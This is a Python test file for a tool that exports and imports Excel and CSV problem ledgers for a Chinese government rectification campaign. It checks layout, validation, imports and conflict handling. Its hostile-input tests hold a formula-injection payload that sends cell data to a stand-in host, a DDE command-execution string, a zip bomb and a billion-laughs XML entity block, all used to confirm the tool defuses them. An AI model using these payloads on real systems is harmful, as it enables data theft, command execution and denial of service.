"""Ledgers for people (names, drop-downs, protection, print layout) and what comes back
(edits by name, every bad row in one run, several files), and the hostile inputs of both."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from edit_helpers import EXAMPLE, dy, snapshot
from openpyxl import Workbook, load_workbook

from dytool.checks import SUITE
from dytool.engine.load import load_repository


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "campaign"
    shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns(".dytool"))
    return root


def _export(capsys: pytest.CaptureFixture[str], root: Path, out: Path, *args: str) -> Path:
    ran = dy(capsys, root, "export", "-o", str(out), *args)
    assert ran.code == 0, ran.err
    return out


def _row(sheet: object, ident: str) -> int:
    for row in range(4, sheet.max_row + 1):  # type: ignore[attr-defined]
        if sheet.cell(row=row, column=2).value == ident:  # type: ignore[attr-defined]
            return row
    raise AssertionError(ident)


def _column(sheet: object, header: str) -> int:
    return [c.value for c in sheet[3]].index(header) + 1  # type: ignore[index]


def test_a_units_ledger_shows_names_and_is_made_for_an_office(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = load_workbook(_export(capsys, repo, tmp_path / "x.xlsx", "--unit", "西岭县"))
    sheet = book["问题清单"]
    assert "西岭县" in sheet["A1"].value and "截至2023年9月15日" in sheet["A2"].value
    ids = [sheet.cell(row=r, column=2).value for r in range(4, sheet.max_row + 1) if sheet.cell(row=r, column=2).value]
    assert ids == ["P-028", "P-029", "P-030", "P-031", "P-032"]  # only the unit's own items
    row = _row(sheet, "P-028")
    assert sheet.cell(row=row, column=_column(sheet, "责任单位")).value == "西岭县"  # names, not ids
    assert sheet.cell(row=row, column=_column(sheet, "牵头领导")).value == "陈志远"
    assert sheet.cell(row=row, column=_column(sheet, "所属课题")).value.startswith("提升县域经济")
    assert sheet.column_dimensions["B"].width <= 18  # the id column stays narrow
    fonts = {(c.font.name, c.font.sz) for r in sheet.iter_rows(min_row=1, max_row=8) for c in r if c.value is not None}
    assert {name for name, _ in fonts} <= {"仿宋", "宋体"} and all(11 <= size <= 12 for _, size in fonts)
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref.startswith("A3:")
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.print_title_rows == "$1:$3"
    due = sheet.cell(row=row, column=_column(sheet, "整改时限"))
    assert isinstance(due.value, dt.datetime) and due.is_date
    rules = {str(v.sqref).split(":")[0][:1]: v for v in sheet.data_validations.dataValidation}
    letter = lambda header: sheet.cell(row=3, column=_column(sheet, header)).column_letter  # noqa: E731
    assert rules[letter("是否销号")].type == "list" and rules[letter("整改方式")].type == "list"
    assert rules[letter("责任单位")].type == "list" and rules[letter("销号时间")].type == "date"
    options = book["选项"]
    assert options.sheet_state == "hidden" and "西岭县" in [c.value for c in options["B"]]
    assert sheet.protection.sheet and not sheet.protection.password  # protection prevents slips, hides nothing
    assert sheet.cell(row=row, column=2).protection.locked and sheet.cell(row=row, column=_column(sheet, "问题")).protection.locked
    assert sheet.cell(row=row, column=_column(sheet, "责任单位")).protection.locked
    assert not sheet.cell(row=row, column=_column(sheet, "整改进展")).protection.locked
    assert not sheet.cell(row=sheet.max_row, column=_column(sheet, "问题")).protection.locked  # blank rows for new items
    assert book["dytool"].sheet_state == "hidden"


def test_a_phrase_deadline_shows_its_last_day_with_the_phrase_in_a_comment(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = repo / "problems" / "fgw.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("due: 2023-08-31", "due: 8月底前", 1), encoding="utf-8")
    book = load_workbook(_export(capsys, repo, tmp_path / "x.xlsx", "--unit", "fgw", "--kind", "problems"))
    sheet = book["问题清单"]
    cell = sheet.cell(row=_row(sheet, "P-002"), column=_column(sheet, "整改时限"))
    assert cell.value == dt.datetime(2023, 8, 31) and "8月底前" in cell.comment.text
    before = snapshot(repo)
    assert dy(capsys, repo, "import", str(tmp_path / "x.xlsx")).code == 0  # unchanged: the phrase stays
    assert snapshot(repo) == before


def test_per_unit_files_and_long_names(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    units = repo / "units.yaml"
    units.write_text(units.read_text(encoding="utf-8").replace("short_name: 西岭县", "short_name: " + "西岭" * 1500), encoding="utf-8")
    ran = dy(capsys, repo, "export", "--per-unit", str(tmp_path / "各单位"), "--kind", "problems")
    assert ran.code == 0, ran.err
    names = sorted(p.name for p in (tmp_path / "各单位").iterdir())
    assert "台账-市发展改革委-2023-09-15.xlsx" in names
    assert all(len(n.encode("utf-8")) < 200 for n in names)


def _ledger(path: Path, header: list[str], rows: list[list[object]], title: str = "问题清单") -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def test_every_bad_row_and_reason_in_one_run_and_skip_bad_lists_them(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    header = ["编号", "问题", "责任单位", "整改时限", "整改进展"]
    ledger = _ledger(tmp_path / "a.xlsx", header, [
        ["P-001", "两湾产业对接项目库更新滞后、有效储备不足", "市发展改革委", dt.datetime(2023, 6, 30), None],  # unchanged
        [None, "新问题甲", "西岭县", dt.datetime(2023, 12, 31), None],
        [None, "新问题乙", "不存在的单位", None, None],
        [None, "新问题丙", "fgw", "2023-02-30", None],
        ["P-029", "乡镇招商考核“重签约、轻落地”", "青川市西岭县", None, "某天：进展"],
    ])
    before = snapshot(repo)
    ran = dy(capsys, repo, "import", str(ledger))
    assert ran.code == 1
    for row, words in ((4, "不存在的单位"), (5, "DY"), (6, "某天")):
        assert f"第{row}行" in ran.err and words in ran.err, ran.err
    assert snapshot(repo) == before
    ran = dy(capsys, repo, "import", str(ledger), "--skip-bad")
    assert ran.code == 0, ran.err
    assert "跳过 3 行" in ran.err and all(f"第{r}行" in ran.err for r in (4, 5, 6))
    problems = {e.record.title: e.record for e in load_repository(repo, SUITE).repo.entries("problem")}
    assert problems["新问题甲"].owner_unit == "xiling-county"  # type: ignore[attr-defined]


def test_an_ambiguous_name_is_reported_with_row_and_column(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    people = repo / "people.yaml"
    people.write_text(people.read_text(encoding="utf-8") + "- id: chen-zhiyuan-2\n  name: 陈志远\n", encoding="utf-8")
    ledger = _ledger(tmp_path / "a.xlsx", ["问题", "责任单位", "牵头领导"], [["新问题", "fgw", "陈志远"]])
    ran = dy(capsys, repo, "import", str(ledger))
    assert ran.code == 1 and "第2行" in ran.err and "牵头领导" in ran.err and "chen-zhiyuan-2" in ran.err


def test_several_returned_files_in_one_command(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first = load_workbook(_export(capsys, repo, tmp_path / "fgw.xlsx", "--unit", "fgw", "--kind", "problems"))
    second = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
    for book, ident, name in ((first, "P-002", "fgw-back.xlsx"), (second, "P-028", "xl-back.xlsx")):
        sheet = book["问题清单"]
        sheet.cell(row=_row(sheet, ident), column=_column(sheet, "整改措施")).value = f"{ident} 的新措施"
        book.save(tmp_path / name)
    ran = dy(capsys, repo, "import", str(tmp_path / "fgw-back.xlsx"), str(tmp_path / "xl-back.xlsx"))
    assert ran.code == 0, ran.err
    assert "修改 2 条记录" in ran.out
    assert "P-002 的新措施" in (repo / "problems" / "fgw.yaml").read_text(encoding="utf-8")
    assert "P-028 的新措施" in (repo / "problems" / "xiling-county.yaml").read_text(encoding="utf-8")



def test_two_offices_copies_of_one_ledger_each_bring_their_own_edit(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The whole ledger sent to every unit: the rows a unit left as they were are not a second edit."""
    whole = _export(capsys, repo, tmp_path / "all.xlsx", "--kind", "problems")
    for ident, name in (("P-002", "a.xlsx"), ("P-028", "b.xlsx")):
        book = load_workbook(whole)
        sheet = book["问题清单"]
        sheet.cell(row=_row(sheet, ident), column=_column(sheet, "整改措施")).value = f"{ident} 的新措施"
        book.save(tmp_path / name)
    ran = dy(capsys, repo, "import", str(tmp_path / "a.xlsx"), str(tmp_path / "b.xlsx"), "--dry-run")
    assert ran.code == 0, ran.err
    assert "修改 2 条记录" in ran.out and "已出现过" not in ran.err
    book = load_workbook(tmp_path / "b.xlsx")
    sheet = book["问题清单"]
    sheet.cell(row=_row(sheet, "P-002"), column=_column(sheet, "整改措施")).value = "另一个单位也改了"
    book.save(tmp_path / "b.xlsx")
    ran = dy(capsys, repo, "import", str(tmp_path / "a.xlsx"), str(tmp_path / "b.xlsx"), "--dry-run")
    assert ran.code == 1 and "P-002" in ran.err and "已出现过" in ran.err, ran.err


def test_a_row_the_unit_left_alone_is_no_conflict_when_its_record_changed(repo: Path, tmp_path: Path,
                                                                         capsys: pytest.CaptureFixture[str]) -> None:
    """Rows are compared with the cells as exported, not with the record as it is now."""
    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
    sheet = book["问题清单"]
    sheet.cell(row=_row(sheet, "P-028"), column=_column(sheet, "整改措施")).value = "新措施"
    book.save(tmp_path / "back.xlsx")
    path = repo / "problems" / "xiling-county.yaml"
    text = path.read_text(encoding="utf-8")
    assert "推进周边乡镇污水管网接入，" in text  # P-030, changed by the office after the export
    path.write_text(text.replace("推进周边乡镇污水管网接入，", "推进周边乡镇污水管网全部接入，"), encoding="utf-8")
    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
    assert ran.code == 0, ran.err
    assert "修改 1 条记录" in ran.out and "冲突" not in ran.err
    text = path.read_text(encoding="utf-8")
    assert "新措施" in text and "推进周边乡镇污水管网全部接入，" in text


def test_a_unit_may_write_yi_xiaohao_in_the_closed_column(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
    sheet = book["问题清单"]
    row = _row(sheet, "P-032")
    sheet.cell(row=row, column=_column(sheet, "是否销号")).value = "已销号"
    sheet.cell(row=row, column=_column(sheet, "销号时间")).value = dt.datetime(2023, 12, 20)
    sheet.cell(row=row, column=_column(sheet, "销号依据")).value = "薄弱村占比降至18%。"
    book.save(tmp_path / "back.xlsx")
    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
    assert ran.code == 0, ran.err
    assert "是否销号：否 → 是" in ran.out
    problems = {e.record.id: e.record for e in load_repository(repo, SUITE).repo.entries("problem")}
    assert problems["P-032"].closed_on.first == dt.date(2023, 12, 20)  # type: ignore[attr-defined]


def test_a_row_with_an_unknown_name_also_reports_its_other_reasons(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
    sheet = book["问题清单"]
    row = _row(sheet, "P-031")
    sheet.cell(row=row, column=_column(sheet, "牵头领导")).value = "王某"
    sheet.cell(row=row, column=_column(sheet, "整改方式")).value = "马上改"
    sheet.cell(row=row, column=_column(sheet, "整改时限")).value = "abc"
    book.save(tmp_path / "back.xlsx")
    before = snapshot(repo)
    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
    assert ran.code == 1
    lines = [line for line in ran.err.splitlines() if f"第{row}行" in line]
    assert any("王某" in line for line in lines) and any("马上改" in line for line in lines) and any("abc" in line for line in lines), ran.err
    assert snapshot(repo) == before
    ledger = _ledger(tmp_path / "new.xlsx", ["问题", "责任单位", "整改方式", "整改时限"], [["新问题", "不存在局", "马上改", "abc"]])
    ran = dy(capsys, repo, "import", str(ledger))
    assert ran.code == 1 and all(words in ran.err for words in ("不存在局", "马上改", "abc")), ran.err
    assert snapshot(repo) == before


def test_the_evaluating_unit_is_shown_and_read_back_by_name(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = load_workbook(_export(capsys, repo, tmp_path / "t.xlsx", "--kind", "topics"))
    sheet = book["调研课题"]
    column = _column(sheet, "评审·评审单位或人")
    assert sheet.cell(row=_row(sheet, "T-004"), column=column).value == "市委宣传部"
    sheet.cell(row=_row(sheet, "T-004"), column=column).value = "市委组织部"
    book.save(tmp_path / "back.xlsx")
    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
    assert ran.code == 0, ran.err
    topics = {e.record.id: e.record for e in load_repository(repo, SUITE).repo.entries("topic")}
    assert topics["T-004"].evaluation.by == "zzb"  # type: ignore[attr-defined]

HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'


def test_formulas_stay_text_in_xlsx_and_are_neutralised_in_csv(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = repo / "problems" / "fgw.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("title: 重点项目前期工作经费保障不足", f"title: '{HOSTILE}'")
    text = text.replace("category: 项目建设", "category: \"=cmd|' /C calc'!A0\"", 1)
    path.write_text(text, encoding="utf-8")
    book = load_workbook(_export(capsys, repo, tmp_path / "x.xlsx", "--kind", "problems"))
    sheet = book["问题清单"]
    cell = sheet.cell(row=_row(sheet, "P-002"), column=_column(sheet, "问题"))
    assert cell.value == HOSTILE and cell.data_type == "s"
    with zipfile.ZipFile(tmp_path / "x.xlsx") as archive:
        assert all("<f>" not in archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/"))
    ran = dy(capsys, repo, "export", "--format", "csv", "--kind", "problems", "-o", str(tmp_path / "csv"))
    assert ran.code == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "csv" / "problems.csv").read_bytes().decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'" + HOSTILE in cells and "'=cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    before = snapshot(repo)
    ran = dy(capsys, repo, "import", str(tmp_path / "csv" / "problems.csv"), "--kind", "problems")
    assert ran.code == 0, ran.err
    assert snapshot(repo) == before  # the escaping is undone: the round trip is exact


def test_control_characters_and_nan_do_not_break_exports(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = repo / "problems" / "fgw.yaml"
    text = path.read_text(encoding="utf-8").replace("title: 重点项目前期工作经费保障不足", 'title: "经费\\v保障\\e不足\\uFFFE"')
    path.write_text(text, encoding="utf-8")
    topics = repo / "topics" / "T-015.yaml"
    topics.write_text(topics.read_text(encoding="utf-8") + "evaluation:\n  score: .nan\n", encoding="utf-8")
    for fmt in ("xlsx", "csv", "json"):
        out = tmp_path / f"out.{fmt}"
        ran = dy(capsys, repo, "export", "--format", fmt, "-o", str(out))
        assert ran.code == 0, ran.err
    json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))  # strict JSON: no NaN
    book = load_workbook(tmp_path / "out.xlsx")
    sheet = book["问题清单"]
    assert sheet.cell(row=_row(sheet, "P-002"), column=_column(sheet, "问题")).value == "经费\ufffd保障\ufffd不足\ufffd"


def test_a_workbook_claiming_a_million_rows_is_read_within_bounds(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ledger = _ledger(tmp_path / "a.xlsx", ["问题", "责任单位"], [["新问题", "fgw"]])
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(ledger) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = data.replace(b'<dimension ref="A1:B2"/>', b'<dimension ref="A1:XFD1048576"/>')
                data = data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
            dst.writestr(info, data)
    assert bomb.stat().st_size < 8000
    ran = dy(capsys, repo, "import", str(bomb), "--kind", "problems")
    assert ran.code == 1 and "100000" in ran.err


def test_a_zip_bomb_is_refused(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"<" * (300 * 1024 * 1024 // 10) * 10)
    ran = dy(capsys, repo, "import", str(bomb), "--kind", "problems")
    assert ran.code == 1 and "拒绝读取" in ran.err


_ENTITIES = ('<!DOCTYPE worksheet [<!ENTITY a "' + "a" * 60 + '">'
             + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9)) + "]>")


@pytest.mark.parametrize("payload", [b"&j;", b"<t>"])
def test_entities_or_broken_xml_in_a_sheet_are_a_clear_refusal(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                               payload: bytes) -> None:
    """A sheet is parsed while it is read: a billion-laughs sheet (expat's amplification limit)
    or XML broken inside the rows ended in an internal error (exit 3)."""
    ledger = _ledger(tmp_path / "a.xlsx", ["问题", "责任单位"], [["新问题", "fgw"]])
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(ledger) as src, zipfile.ZipFile(bad, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = re.sub(rb"(<worksheet)", _ENTITIES.encode() + rb"\1", data, count=1)
                data = re.sub(rb"(<is><t[^>]*>)", rb"\1" + payload, data, count=1)
            dst.writestr(info, data)
    before = snapshot(repo)
    ran = dy(capsys, repo, "import", str(bad), "--kind", "problems")
    assert ran.code == 1 and "bad.xlsx" in ran.err and "内部错误" not in ran.err
    assert snapshot(repo) == before


def test_a_campaign_title_that_looks_like_a_formula_stays_text(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = repo / "campaign.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(re.sub(r"(?m)^title: .*$", "title: '=1+1'", text, count=1), encoding="utf-8")
    book = load_workbook(_export(capsys, repo, tmp_path / "x.xlsx", "--kind", "problems"))
    assert book["问题清单"]["A1"].data_type == "s" and book["问题清单"]["A1"].value.startswith("=1+1")


def test_non_finite_numbers_and_huge_cells_are_refused_on_import(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ledger = _ledger(tmp_path / "a.xlsx", ["课题名称", "评审·评分"], [["课题甲", "nan"], ["课题乙", "inf"]], title="调研课题")
    ran = dy(capsys, repo, "import", str(ledger), "--kind", "topics")
    assert ran.code == 1 and "第2行" in ran.err and "第3行" in ran.err and "有限" in ran.err
    progress = " " * 20000 + "没有冒号的进展"
    ledger = _ledger(tmp_path / "b.xlsx", ["编号", "问题", "整改进展"], [["P-029", "乡镇招商考核“重签约、轻落地”", progress]])
    ran = dy(capsys, repo, "import", str(ledger))
    assert ran.code == 1 and "第2行" in ran.err


def test_the_problem_list_prints_its_ledger_columns_and_hides_the_back_office_ones(repo: Path, tmp_path: Path,
                                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    book = load_workbook(_export(capsys, repo, tmp_path / "x.xlsx", "--kind", "problems"))
    sheet = book["问题清单"]
    hidden = {sheet.cell(row=3, column=i).value for i in range(1, sheet.max_column + 1)
              if sheet.column_dimensions[sheet.cell(row=3, column=i).column_letter].hidden}
    assert {"问题来源", "问题类别", "所属课题"} <= hidden
    assert not hidden & {"编号", "问题", "责任单位", "整改措施", "整改时限", "整改进展", "是否销号", "销号时间", "销号依据", "整改方式"}
    row = _row(sheet, "P-001")
    assert sheet.row_dimensions[row].height >= 30  # long text wraps onto rows tall enough to show it
